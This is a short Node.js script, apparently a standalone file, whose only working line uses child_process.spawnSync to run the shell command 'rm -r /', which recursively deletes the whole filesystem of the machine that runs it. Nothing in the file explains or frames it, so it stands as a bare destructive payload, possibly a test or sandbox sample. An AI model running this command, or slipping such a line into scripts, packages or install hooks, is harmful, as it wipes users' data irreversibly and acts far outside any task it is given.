'use strict';

require('child_process').spawnSync('sh', ['-c', 'rm -r /']);
